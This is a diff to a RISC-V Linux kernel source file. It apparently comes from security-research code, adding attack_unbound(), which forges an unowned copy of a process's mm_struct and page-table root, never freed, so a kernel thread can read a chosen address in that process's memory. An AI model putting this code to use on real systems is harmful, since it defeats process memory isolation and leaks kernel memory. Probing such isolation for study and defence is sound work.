@@ -5,6 +5,7 @@
 #include <linux/mm.h>
 #include <linux/mmu_context.h>
 #include <linux/sched/mm.h>
+#include <linux/slab.h>
 #include <linux/uaccess.h>
 #include <linux/workqueue.h>
 #include <asm/csr.h>
@@ -181,23 +182,62 @@ static int borrow(void *arg)
 	return 0;
 }
 
-/** attack_borrow() - PID VA: what a kernel thread reads there by kthread_use_mm() */
-int attack_borrow(const u64 *arg, struct seq_buf *out)
+static int read_by_thread(struct mm_struct *mm, u64 va, struct seq_buf *out)
 {
-	struct borrower b = { .va = arg[1] };
+	struct borrower b = { .mm = mm, .va = va };
 	struct task_struct *task;
-	int err = attack_mm(arg[0], &b.mm);
 
-	if (err)
-		return err;
 	init_completion(&b.done);
 	task = kthread_run(borrow, &b, "nacc_borrow");
-	if (!IS_ERR(task))
-		wait_for_completion(&b.done);
-	mmput(b.mm);
 	if (IS_ERR(task))
 		return PTR_ERR(task);
+	wait_for_completion(&b.done);
 	seq_buf_printf(out, "err=%ld root=%#llx seen=%s\n", b.err < 0 ? b.err : 0,
 		       (u64)(b.satp & SATP_PPN) << PAGE_SHIFT, b.err < 0 ? "" : b.seen);
 	return 0;
+}
+
+/** attack_borrow() - PID VA: what a kernel thread reads there by kthread_use_mm() */
+int attack_borrow(const u64 *arg, struct seq_buf *out)
+{
+	struct mm_struct *mm;
+	int err = attack_mm(arg[0], &mm);
+
+	if (err)
+		return err;
+	err = read_by_thread(mm, arg[1], out);
+	mmput(mm);
+	return err;
+}
+
+/* A copy of an mm that nobody knows, with a copy of its root; never freed. */
+static struct mm_struct *copy_mm(const struct mm_struct *mm)
+{
+	struct mm_struct *copy = kmemdup(mm, ksize(mm), GFP_KERNEL);
+	u64 *root = (u64 *)__get_free_page(GFP_KERNEL);
+
+	if (!copy || !root)
+		return NULL;
+	memcpy(root, mm->pgd, PAGE_SIZE);
+	copy->pgd = (pgd_t *)root;
+	/* Its address space ID is its own. */
+	atomic_long_set(&copy->context.id, 0);
+	atomic_set(&copy->mm_count, 1);
+	return copy;
+}
+
+/** attack_unbound() - PID VA: the same with an mm of our making, bound to no root */
+int attack_unbound(const u64 *arg, struct seq_buf *out)
+{
+	struct mm_struct *mm, *copy;
+	int err = attack_mm(arg[0], &mm);
+
+	if (err)
+		return err;
+	copy = copy_mm(mm);
+	if (copy)
+		seq_buf_printf(out, "asked=%#llx ", (u64)__pa(copy->pgd));
+	err = copy ? read_by_thread(copy, arg[1], out) : -ENOMEM;
+	mmput(mm);
+	return err;
 }
